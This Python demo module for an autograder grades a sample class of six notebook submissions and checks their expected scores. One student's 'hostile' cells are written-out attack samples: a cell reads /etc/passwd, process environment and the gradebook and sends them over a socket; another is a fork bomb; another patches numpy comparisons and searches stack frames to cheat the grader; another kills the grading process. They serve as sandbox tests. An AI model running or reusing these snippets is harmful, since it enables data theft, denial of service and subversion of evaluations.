"""The demo: a course of its own in `build/demo`, a sample class of six, graded from uploads to report.

It never touches a real gradebook; what each student should get stands in `CLASS`, and a test compares.
"""

import shutil
import sys
from dataclasses import dataclass

import nbformat

from autograder import build, engine, feedback, grade, ingest, registry, release, report
from autograder.__main__ import class_table
from autograder.results import dump_json, write_atomically

NAME = "a02_backpropagation"
ANSWER = "The node's value reaches the loss along several paths, and a small change travels along each of them."

MISTAKEN = ("affine_backward", "softmax_loss", "init_weights")
HALF = ("affine_forward", "affine_backward")

HOSTILE = {
    "affine_forward": '''
import os, socket, subprocess
def affine_forward(x, w, b):
    """Tries the network, other submissions and the gradebook, then answers with what it found."""
    found = []
    for path in ("/", "/etc/passwd", "/root", os.getcwd(), "/proc/1/environ", "gradebook.db", "../gradebook.db"):
        try:
            found.append(open(path, "rb").read())
        except OSError:
            found.append(b"")
    try:
        socket.create_connection(("127.0.0.1", 80), timeout=1).send(b"".join(found))
        socket.getaddrinfo("example.org", 80)
    except OSError:
        pass
    return np.full((len(x), w.shape[1]), len(b"".join(found)), dtype=float), (x, w)
''',
    "affine_backward": '''
import os
def affine_backward(dout, cache):
    """A fork bomb."""
    while True:
        try:
            os.fork()
        except OSError:
            pass
''',
    "softmax_loss": '''
import gc, sys
def softmax_loss(x, y):
    """Looks for expected values in frames and in memory, patches the comparison, and returns a liar."""
    class Liar(np.ndarray):
        __eq__ = __ne__ = __le__ = __array_function__ = lambda self, *a, **k: True
    np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
    frame = sys._getframe()
    while frame:
        for value in frame.f_locals.values():
            if isinstance(value, dict) and "want" in value:
                return value["want"]
        frame = frame.f_back
    return 0.0, np.zeros_like(x).view(Liar)
''',
    "train_classifier": '''
import os
def train_classifier(x_train, y_train, x_test, rng):
    """Ends the process that is grading it."""
    os.kill(os.getppid(), 9)
    os._exit(0)
''',
}


@dataclass(frozen=True)
class Sample:
    """A student of the sample class: the upload's file name, the cells they changed, and the score they must get."""

    student: str
    upload: str
    cells: dict
    score: float
    says: str
    answer: str = ""
    hostile: bool = False


def solutions():
    """The course's own cells, numeric answers included."""
    tasks = registry.assignment(NAME).tasks
    code = {task.id: engine.solution(task.id) for task in tasks if task.is_code}
    return code | {task.id: f"{task.id} = {task.answer}" for task in tasks if task.kind == "numeric"}


def sample_class():
    """The six students of the demo, made from the course's sources, so that they follow every change of a task."""
    solved = solutions()
    other = {task.id: registry.alternatives(task.id)[-1].source for task in registry.assignment(NAME).code_tasks()}
    mistakes = {task: registry.misconceptions(task)[0].source for task in MISTAKEN}
    half = {name: solved[name] for name in HALF}
    return [
        Sample("ada", "ada_1001_5001_a02_backpropagation.ipynb", solved, 26.0, "all right", ANSWER),
        Sample("ben", "ben_1002_5002_a02_backpropagation (1).ipynb", solved | other, 26.0, "another style", ANSWER),
        Sample("cleo", "cleo_1003_5003_a02_backpropagation.ipynb", solved | mistakes, 20.0, "classic mistakes"),
        Sample("dan", "dan_1004_5004_a02_backpropagation.ipynb", half, 6.0, "half done", ANSWER),
        Sample("eve", "eve_1005_5005_a02_backpropagation.ipynb", {}, 0.0, "blank"),
        Sample("mal", "mal_1006_5006_a02_backpropagation.ipynb", HOSTILE, 0.0, "hostile", hostile=True),
    ]


def run(course=registry.ROOT / "build" / "demo"):
    """Run the whole story, print where to look, and return 0 if every student got what they should."""
    warning = engine.sandbox_warning()
    shutil.rmtree(course, ignore_errors=True)
    students = [sample for sample in sample_class() if not (warning and sample.hostile)]
    print(f"1. Build and release {NAME}")
    config = registry.ROOT / "nbgrader_config.py"
    write_atomically(
        course / "nbgrader_config.py", f"get_config()  # noqa: F821\nload_subconfig({str(config)!r})  # noqa: F821\n"
    )
    build.build(NAME, course)
    archive = release.release(NAME, course)
    print(f"   {archive}")
    uploads = write_uploads(students, course)
    print(f"2. Ingest {len(students)} uploads from {uploads}")
    ingest.ingest(NAME, uploads, course, roster=uploads.parent / "roster.csv")
    print(f"3. Grade. {warning} The hostile sample is left out." if warning else "3. Grade in the sandbox")
    graded = grade.grade(course, NAME)
    write_atomically(course / "results.json", dump_json([result.to_json() for result in graded]))
    print(class_table(graded))
    pages = feedback.write_feedback(course, NAME)
    paths = report.class_report(course, NAME).write(course)
    print("4. Look at")
    print(f"   released notebook   {build.release_path(NAME, course)}")
    print(f"   gradebook           {course / 'gradebook.db'}")
    print(f"   feedback            {pages[0]}")
    for path in paths:
        print(f"   class report        {path}")
    shown = course.relative_to(registry.ROOT) if course.is_relative_to(registry.ROOT) else course
    print(f"   hand grading        cd {shown} && {sys.executable} -m jupyterlab   (menu Nbgrader, Formgrader)")
    return _compare(students, graded)


def write_uploads(students, course):
    """Write the sample class's uploads as a learning platform would deliver them, and a roster with one more name."""
    folder = course / "sample_uploads"
    folder.mkdir(parents=True, exist_ok=True)
    skeleton = nbformat.read(build.release_path(NAME, course), as_version=4)
    for sample in students:
        nbformat.write(filled(skeleton, sample), folder / sample.upload)
    names = [*(sample.student for sample in students), "fay"]
    write_atomically(course / "roster.csv", "student\n" + "\n".join(names) + "\n")
    return folder


def filled(skeleton, sample):
    """A copy of the released notebook with a student's cells in it, stripped of metadata for the second student."""
    notebook = nbformat.from_dict(skeleton)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if name in sample.cells:
            cell.source = f"# task: {name}\n{sample.cells[name]}"
        if cell.metadata.get("numnet", {}).get("answer") and sample.answer:
            cell.source += f"\n{sample.answer}"
        if "(1)" in sample.upload:
            cell.metadata.clear()
    return notebook


def _compare(students, graded):
    """Say whose score differs from what the sample class must get; 0 if nobody's does."""
    scores = {result.student: result.score for result in graded}
    wrong = [sample for sample in students if scores.get(sample.student) != sample.score]
    for sample in wrong:
        print(f"{sample.student} should have {sample.score:g} points, but has {scores.get(sample.student)}.")
    if not wrong:
        print("Every student of the sample class has the score they must have.")
    return 1 if wrong else 0
